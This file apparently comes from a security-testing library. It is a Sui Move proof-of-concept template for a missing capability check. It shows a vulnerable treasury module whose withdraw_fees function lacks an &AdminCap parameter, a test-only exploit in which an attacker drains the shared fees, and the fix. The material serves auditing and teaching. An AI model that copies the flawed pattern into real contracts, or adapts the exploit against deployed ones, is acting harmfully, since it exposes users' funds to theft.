@@ -0,0 +1,95 @@
+// ---
+// name: Missing Capability Check
+// description: Privileged function on a shared object does not require the admin capability
+// vulnerability_type: missing-capability-check
+// class: unauthenticated-privileged-action
+// chain: sui
+// severity: high
+// cwe: [CWE-862]
+// harness: sui-move-test
+// remediation: "Take the capability (&AdminCap) as a parameter of every privileged function, so
+//   only its owner can call them."
+// tags: [capability, access-control, shared-object]
+// context:
+//   PACKAGE: Named address of the package under test (the test module lives in its tests/)
+//   MODULE: Module that defines the capability and the shared treasury
+//   FEES_AMOUNT: Fees paid in before the attacker withdraws them
+// references:
+//   - https://move-book.com/programmability/capability
+// ---
+// PoC Template: Missing Capability Check
+// Vulnerability: Privileged function on a shared object does not require the admin capability
+// Chain: Sui/Move (sui move test)
+//
+// A shared object can be passed to any public function by any sender.
+// Functions that move funds or change configuration on it have to demand
+// proof of authority, usually `&AdminCap`, or everyone holds that authority.
+
+// ============================================================
+// VULNERABLE CODE PATTERN
+// ============================================================
+// module example::treasury {
+//     public struct AdminCap has key { id: UID }
+//
+//     public struct Treasury has key {
+//         id: UID,
+//         fees: Balance<SUI>,
+//     }
+//
+//     // BUG: No `_: &AdminCap` parameter and no sender check
+//     public fun withdraw_fees(treasury: &mut Treasury, ctx: &mut TxContext): Coin<SUI> {
+//         let amount = treasury.fees.value();
+//         coin::take(&mut treasury.fees, amount, ctx)
+//     }
+// }
+//
+// The target module needs a `#[test_only] public fun init_for_testing(ctx: &mut TxContext)`
+// that calls its `init`.
+
+// ============================================================
+// EXPLOIT TEST (sui move test)
+// ============================================================
+#[test_only]
+module {{PACKAGE}}::missing_capability_check_tests {
+    use sui::coin;
+    use sui::sui::SUI;
+    use sui::test_scenario as ts;
+    use {{PACKAGE}}::{{MODULE=treasury}}::{Self, {{CAP_TYPE=AdminCap}}, {{TREASURY_TYPE=Treasury}}};
+
+    const ADMIN: address = @{{ADMIN_ADDRESS=0xAD}};
+    const USER: address = @{{USER_ADDRESS=0xB0B}};
+    const ATTACKER: address = @{{ATTACKER_ADDRESS=0xBAD}};
+
+    #[test]
+    fun test_missing_capability_check() {
+        let mut scenario = ts::begin(ADMIN);
+        {{MODULE}}::init_for_testing(ts::ctx(&mut scenario));
+
+        // 1. Users pay fees into the shared treasury
+        ts::next_tx(&mut scenario, USER);
+        let mut treasury = ts::take_shared<{{TREASURY_TYPE}}>(&scenario);
+        let fee = coin::mint_for_testing<SUI>({{FEES_AMOUNT=1000}}, ts::ctx(&mut scenario));
+        {{MODULE}}::{{FEE_FUNCTION=pay_fee}}(&mut treasury, fee);
+        ts::return_shared(treasury);
+
+        // 2. The attacker holds no capability...
+        ts::next_tx(&mut scenario, ATTACKER);
+        assert!(!ts::has_most_recent_for_sender<{{CAP_TYPE}}>(&scenario), 0);
+
+        // 3. ... and calls the privileged function anyway
+        let mut treasury = ts::take_shared<{{TREASURY_TYPE}}>(&scenario);
+        let fees = {{MODULE}}::{{PRIVILEGED_FUNCTION=withdraw_fees}}(&mut treasury, ts::ctx(&mut scenario));
+        ts::return_shared(treasury);
+
+        assert!(coin::value(&fees) == {{FEES_AMOUNT}}, 1);
+        transfer::public_transfer(fees, ATTACKER);
+        ts::end(scenario);
+    }
+}
+
+// ============================================================
+// FIX: Require the capability in the signature
+// ============================================================
+// public fun withdraw_fees(_: &AdminCap, treasury: &mut Treasury, ctx: &mut TxContext): Coin<SUI> {
+//     ...
+// }